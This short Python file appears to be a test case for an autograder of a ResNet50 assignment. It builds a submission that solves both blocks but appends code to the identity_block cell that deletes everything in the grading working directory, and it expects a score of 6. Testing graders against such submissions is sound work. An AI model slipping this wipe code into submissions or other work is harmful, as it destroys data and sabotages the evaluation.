"""Both blocks done (ResNet50 as handed out), identity_block's cell deleting everything in its working
directory while it is graded: the next cells are graded as usual."""

SCORE = 6


def build(kit):
    wipe = (
        "\n\nimport os, shutil\n\nfor _entry in os.listdir('.'):\n"
        "    shutil.rmtree(_entry, ignore_errors=True) if os.path.isdir(_entry) else os.remove(_entry)\n"
    )
    return kit.stubbed(
        identity_block=kit.solution("identity_block") + wipe, convolutional_block=kit.solution("convolutional_block")
    )
